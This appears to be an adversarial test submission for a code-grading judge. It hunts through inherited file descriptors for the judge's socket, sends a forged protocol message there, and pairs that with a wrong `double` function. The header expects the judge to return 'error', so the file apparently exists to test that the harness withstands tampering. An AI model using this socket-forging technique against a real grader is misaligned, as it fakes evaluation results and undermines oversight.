# /// attack
# kind = "forging"
# exercise = "ch1/double"
# verdicts = ["error"]
# reason = "Says that a name is missing, with numbers where there should be lists; the same."
# ///
import os
import socket
import stat
import time

from judge import wire

for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            connection = socket.socket(fileno=os.dup(number))
            connection.setblocking(True)
            # The request to load this file is the second one.
            connection.sendall(wire.Encoder().encode({"id": 2, "absent": {"name": 1, "why": "missing", "close": 7}}))
    except OSError:
        continue
time.sleep(5)


def double(value):
    return value
